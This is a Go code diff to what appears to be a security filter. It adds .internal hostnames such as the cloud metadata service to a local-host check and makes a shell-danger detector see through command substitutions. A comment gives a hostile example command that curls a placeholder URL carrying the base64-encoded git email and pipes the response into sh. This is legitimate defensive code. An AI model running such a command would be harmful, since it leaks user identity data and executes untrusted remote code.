@@ -120,10 +120,16 @@ func localIP(ip net.IP) bool {
 }
 
 // LocalHost reports a host that is this machine or its private network:
-// localhost, loopback, private and link-local addresses.
+// localhost, loopback, private and link-local addresses, names under
+// .internal.
 func LocalHost(host string) bool {
 	h := strings.ToLower(strings.Trim(host, "[]"))
 	if h == "localhost" || strings.HasSuffix(h, ".localhost") || h == "0.0.0.0" {
+		return true
+	}
+	if strings.HasSuffix(h, ".internal") {
+		// the private-use top-level domain: GCP's metadata service
+		// (metadata.google.internal), a VPC's own names
 		return true
 	}
 	ip := net.ParseIP(h)
@@ -619,6 +625,11 @@ func ShellDanger(cmd string) string {
 		return ""
 	}
 	m := shellDangerRe.FindString(cmd)
+	if m == "" && strings.Contains(cmd, "$(") {
+		// curl "https://x/c/$(git config user.email | base64)" | sh: the
+		// pipes of a command substitution are not the download's
+		m = shellDangerRe.FindString(cmdSubst.ReplaceAllString(cmd, "X"))
+	}
 	if psEncodedRe.MatchString(m) {
 		if enc := psEncodedRe.FindStringSubmatch(full); enc != nil {
 			if script, ok := decodeUTF16Base64(enc[1]); ok {
@@ -632,6 +643,9 @@ func ShellDanger(cmd string) string {
 	}
 	return m
 }
+
+// cmdSubst matches a command substitution with no other inside it.
+var cmdSubst = regexp.MustCompile(`\$\([^()]*\)`)
 
 // psSuspectRe matches what an encoded PowerShell script has no honest
 // reason to hide: running strings as code, downloading, starting
